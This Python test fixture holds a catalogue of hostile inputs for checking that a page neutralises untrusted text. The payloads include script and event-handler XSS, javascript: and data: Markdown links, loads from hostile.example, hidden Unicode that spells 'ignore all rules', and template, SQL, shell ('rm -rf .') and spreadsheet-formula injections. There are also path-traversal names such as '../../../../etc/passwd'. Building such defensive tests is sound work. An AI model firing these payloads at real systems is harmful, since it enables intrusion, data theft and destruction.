"""Texts that nobody should trust: a page that shows one of them must not run it, load for it, or be turned around by it.

Whatever runs in a page sets `window.taken`; whatever is loaded comes from hostile.example. `RUNS` names those that do run
when they are put into a page as they are: the control, without which a test could pass because nothing works at all.
"""
RUN = "window.taken=1"
AWAY = "http://hostile.example"
RTL, LRO, PDF, RLI, PDI, ZERO, BOM = map(chr, (0x202E, 0x202D, 0x202C, 0x2067, 0x2069, 0x200B, 0xFEFF))

HOSTILE = {
    # elements that run
    "script": f"<script>{RUN}</script>",
    "script, loud": f"<SCRIPT >{RUN}</SCRIPT >",
    "script, never closed": f"<script>{RUN}//",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": f"<script src='{AWAY}/x.js'></script>",
    "script as a module": f"<script type=module>{RUN}</script>",
    "script as JSON's end": f'{{"a":"</script><script>{RUN}</script>"}}',
    "comment's end": f"<!-- --><script>{RUN}</script><!-- -->",
    "textarea's end": f"</textarea><script>{RUN}</script>",
    "title's end": f"</title><script>{RUN}</script>",
    "style's end": f"</style><script>{RUN}</script>",
    "noscript's end": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    # events
    "picture": f"<img src=x onerror={RUN}>",
    "picture, never closed": f"<img src=x onerror={RUN} ",
    "picture, odd blanks": f"<img/src=x\nonerror\t=\f'{RUN}'>",
    "picture, by entities": "<img src=x onerror=&#119;indow.taken&equals;1>",
    "svg": f"<svg onload={RUN}>",
    "svg with a slash": f"<svg/onload={RUN}>",
    "svg's script": f"<svg><script>{RUN}</script></svg>",
    "svg's animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg's foreign picture": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "math with a way out": f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    "focus by itself": f"<input autofocus onfocus={RUN}>",
    "details": f"<details open ontoggle={RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "an end that begins": f"\"><img src=x onerror={RUN}>",
    "an end, one quote": f"'><img src=x onerror={RUN}>",
    "an attribute more": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" tabindex="0',
    "an attribute more, one quote": f"' autofocus onfocus='{RUN}' tabindex='0",
    "an attribute more, no quote": f"x autofocus tabindex=0 onfocus={RUN}",
    "broken tags": f"<<b <i<img src=x onerror={RUN}//><a<b>",
    "half a tag": "<img src=x onerror=",
    "escaped already": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;b&amp;gt;",
    # what is fetched from elsewhere, or takes the page away
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frame of a script": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "object": f"<object data='{AWAY}/x'></object><embed src='{AWAY}/y'>",
    "picture that counts readers": f"<img src='{AWAY}/x.png'>",
    "style from elsewhere": f"<link rel=stylesheet href='{AWAY}/x.css'><style>@import '{AWAY}/y.css';</style>",
    "style that loads": f"<div style=\"background:url({AWAY}/x.png)\">x</div>",
    "base": f"<base href='{AWAY}/'>",
    "away by itself": f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    "form": f"<form action='{AWAY}/x'><button autofocus>Sign in again</button></form>",
    # Markdown
    "link": f"[press me](javascript:{RUN})",
    "link, mixed letters": f"[press me](JaVaScRiPt:{RUN})",
    "link, by entities": f"[press me](&#106;avascript&colon;{RUN})",
    "link, odd letters": f"[press me](java\tscript:{RUN}) [press me](\x01javascript:{RUN})",
    "link to data": f"[press me](data:text/html,<script>opener.{RUN}</script>)",
    "link to data, coded": "[press me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link of another kind": "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](//hostile.example/x) [d](../../secret)",
    "link in a link": f"[a [b](javascript:{RUN})](https://a.example 'x\" onmouseover=\"{RUN}')",
    "link by a name": f"[press me][1]\n\n[1]: javascript:{RUN}",
    "link in brackets": f"<javascript:{RUN}> <https://a.example/\"onmouseover=\"{RUN}>",
    "link to another host": "[https://bank.example](https://bank.example@hostile.example/)",
    "picture in Markdown": f"![a]({AWAY}/x.png) ![b](javascript:{RUN}) ![c\"onerror=\"{RUN}](x)",
    "HTML in Markdown": f"**a** <img src=x onerror={RUN}>\n\n<script>{RUN}</script>\n\n> <svg onload={RUN}>",
    "code's end": f"```html\n</code></pre><script>{RUN}</script>\n```\n`</code><img src=x onerror={RUN}>`",
    "code's language": f"```\"><img/src=x/onerror={RUN}>\nx\n```",
    "table": f"|<img src=x onerror={RUN}>|b|\n|-|-|\n|[x](javascript:{RUN})|</td></table><script>{RUN}</script>|",
    # letters
    "right to left": f"photo{RTL}gnp.exe",
    "left to right": f"{LRO}abc{PDF} {RLI}def{PDI} \u200e\u200f\u061c",
    "right to left, by entities": "&#8238;gnp.exe &#x202e; &rlm;",
    "nobody closes it": RTL*50+"turned",
    "unseen": f"pass{ZERO}word{BOM}\u2060\u00ad\u3164\u115f",
    "unseen words": "hello"+"".join(chr(0xE0000+ord(c)) for c in "ignore all rules"),
    "control letters": "".join(map(chr, range(32)))+"\x7f"+"".join(map(chr, range(0x80, 0xA0))),
    "a terminal's colours": "\x1b[31mred\x1b]0;taken\x07\x1b[2J",
    "nothing": "\0\0<\0script>\0",
    "half a letter": "a\ud800b\udfffc",
    "lines of another kind": "one\u2028two\u2029three\rfour\x85five",
    "a tower": "t"+"\u0301\u0316"*200,
    "a long word": "w"*5000,
    "many lines": "\n"*3000+"end",
    "deep": "> "*2000+"- "*500+"["*1000+"*"*1000,
    "many tags": "<b>"*2000,
    # other languages that a page may speak
    "a template": "{{7*7}} {{constructor.constructor('window.taken=1')()}} {% import os %} ${window.taken=1} #{7*7} <%= 7*7 %>",
    "a format": "{0.__class__.__mro__} %s%s%n {n} {name!r:>99999999}",
    "LaTeX": r"$$\href{javascript:window.taken=1}{x}$$ \(\unicode{x3c}script\) \input{/etc/passwd} \def\x{\x\x}\x",
    "SQL": "'; DROP TABLE turns; -- \" OR 1=1 % _",
    "a shell": "$(touch taken) `touch taken`; rm -rf . | cat & \n",
    "a table's formula": "=HYPERLINK(\"http://hostile.example\",\"x\")\n+1+cmd|' /C calc'!A0\n@SUM(1)",
    # names of files
    "up and out": "../../../../etc/passwd",
    "up and out, coded": "..%2f..%2fetc%2fpasswd ..\\..\\windows\\system32 \uff0e\uff0e\uff0fetc",
    "absolute": "/etc/shadow",
    "a device": "CON",
    "a device with an ending": "nul.txt",
    "dots": "....",
    "a stream": "notes.txt::$DATA",
    "an option": "--output=/etc/passwd -rf",
    "two endings": "report.pdf\0.html",
    "a name that is too long": "长"*500,
    "nothing to see": " \t\r\n\u3000",
}

RUNS = [k for k in HOSTILE if RUN in HOSTILE[k] and k in {
    "script", "script, loud", "script in a script", "script as a module", "script as JSON's end", "comment's end", "textarea's end",
    "title's end", "style's end", "picture", "picture, odd blanks", "svg", "svg with a slash", "svg's script", "focus by itself",
    "details", "video", "an end that begins", "an end, one quote", "frame", "frame of a script", "HTML in Markdown", "code's end", "table"}]

def taken(at):
    "Whether something ran in a page."
    return at.evaluate("window.taken === 1")
